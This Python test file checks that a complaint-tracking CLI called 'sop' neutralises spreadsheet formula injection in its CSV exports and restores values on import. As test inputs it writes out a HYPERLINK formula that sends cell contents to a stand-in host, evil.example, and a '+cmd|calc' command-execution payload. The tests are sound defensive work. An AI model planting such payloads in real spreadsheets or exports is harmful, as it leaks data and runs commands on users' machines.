"""Every CSV sop writes keeps a spreadsheet from running its text as a formula (OWASP "CSV Injection").

A text cell beginning with ``=``, ``+``, ``-``, ``@``, tab, CR or ``'`` is written behind a ``'``;
numbers never are. sop's own exports read back exactly: ``sop import`` of a complaint export and
``sop verify --file`` of a journal export take the mark off again.
"""

from __future__ import annotations

import csv
import io
import json
import uuid

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from helpers import ok
from sopcli.files.formulas import FORMULA_STARTS, neutralised, restored
from sopcli.files.tables import write_rows

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Klik")'


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def no_live_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(DANGEROUS), (cell, row)


def new_complaint(sop, db: str, **fields: str) -> str:
    values = {"description": "Server mati", "reporter": "Ani", "unit": "BKD", "system": "SIMPEG", **fields}
    args = ["--db", db, "new", "--sop", "kaltim-db", "--json"]
    args += [f"--{name}={value}" for name, value in values.items()]
    return json.loads(ok(sop(*args)).stdout)["number"]


def test_a_text_cell_is_marked_by_its_type_and_a_number_never():
    assert neutralised(HYPERLINK) == "'" + HYPERLINK
    assert neutralised("+cmd|calc") == "'+cmd|calc"
    assert neutralised("'quoted") == "''quoted"
    assert neutralised("-5") == "'-5"  # text that looks like a number is still text
    assert neutralised("-") == "-"  # the dash for "none" runs nothing
    assert neutralised(-5) == -5 and neutralised(-2.5) == -2.5
    assert neutralised("Server mati") == "Server mati"
    out = io.BytesIO()
    write_rows(out, "csv", ["took", "note"], [[-5, "=1+1"], [-0.5, "@SUM(A1)"]])
    assert cells(out.getvalue().decode()) == [["took", "note"], ["-5", "'=1+1"], ["-0.5", "'@SUM(A1)"]]


@given(st.text(max_size=30))
def test_restored_undoes_neutralised(text):
    assert restored(neutralised(text)) == text


def test_complaints_list_report_and_rejects_csv_hold_no_live_formula(sop, database, tmp_path):
    new_complaint(sop, database, description=HYPERLINK, reporter="+cmd|calc", unit="@unit", system="-sys")
    exported = ok(sop("export", "complaints", "--format", "csv")).stdout
    assert "'" + HYPERLINK in {cell for row in cells(exported) for cell in row}
    no_live_formula(cells(exported))
    no_live_formula(cells(ok(sop("export", "journal", "--format", "csv")).stdout))
    no_live_formula(cells(ok(sop("list", "--format", "csv")).stdout))
    no_live_formula(cells(ok(sop("report", "--daily", "--format", "csv")).stdout))
    no_live_formula(cells(ok(sop("journal", "--format", "csv")).stdout))
    bad = tmp_path / "bad.csv"
    bad.write_text(
        "received_at,sop,reporter,unit,system,description\n2026-11-24 09:00,kaltim-db,=evil(),BKD,SIMPEG,\n",
        encoding="utf-8",
    )
    rejects = tmp_path / "rejects.csv"
    ok(sop("import", str(bad), "--skip-invalid", "--rejects", str(rejects)))
    rows = cells(rejects.read_text(encoding="utf-8"))
    assert rows[1][4] == "'=evil()"
    no_live_formula(rows)


def test_a_foreign_csv_keeps_its_leading_apostrophes(sop, tmp_path):
    mine = tmp_path / "mine.csv"
    mine.write_text(
        "received_at,sop,reporter,unit,system,description\n2026-11-24 09:00,kaltim-db,'Ani',BKD,SIMPEG,'=1' kata dia\n",
        encoding="utf-8",
    )
    ok(sop("import", str(mine)))
    [row] = [json.loads(line) for line in ok(sop("export", "complaints", "--format", "jsonl")).stdout.splitlines()]
    assert (row["reporter"], row["description"]) == ("'Ani'", "'=1' kata dia")


# Texts a spreadsheet would run, texts with genuine leading apostrophes, and plain ones.
texts = st.builds(
    lambda start, rest: (start + rest).strip(),
    st.sampled_from([*FORMULA_STARTS, "''", "'=", "=-", "", "\t=", "\r+"]),
    st.text(st.characters(blacklist_categories=("Cs", "Cc")), min_size=1, max_size=15),
).filter(lambda text: text != "")


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(description=texts, reporter=texts, unit=texts, operator=texts.filter(lambda t: " ".join(t.split()) == t))
def test_exports_read_back_exactly(sop, databases, tmp_path, description, reporter, unit, operator):
    name = uuid.uuid4().hex[:8]
    source, target = databases.new(f"source-{name}.db"), databases.new(f"target-{name}.db")
    new_complaint(sop, source, description=description, reporter=reporter, unit=unit, **{"as": operator})
    complaints_csv, journal_csv = tmp_path / "complaints.csv", tmp_path / "journal.csv"
    ok(sop("--db", source, "export", "complaints", "-o", str(complaints_csv)))
    ok(sop("--db", source, "export", "journal", "-o", str(journal_csv)))
    no_live_formula(cells(complaints_csv.read_text(encoding="utf-8")))
    no_live_formula(cells(journal_csv.read_text(encoding="utf-8")))
    assert ok(sop("verify", "--file", str(journal_csv))).stdout.startswith("OK")
    ok(sop("--db", target, "import", str(complaints_csv)))

    def stored(db: str) -> dict:
        [row] = [
            json.loads(line)
            for line in ok(sop("--db", db, "export", "complaints", "--format", "jsonl")).stdout.splitlines()
        ]
        return {key: row[key] for key in ("description", "reporter", "unit", "system", "received_at")}

    assert stored(target) == stored(source)
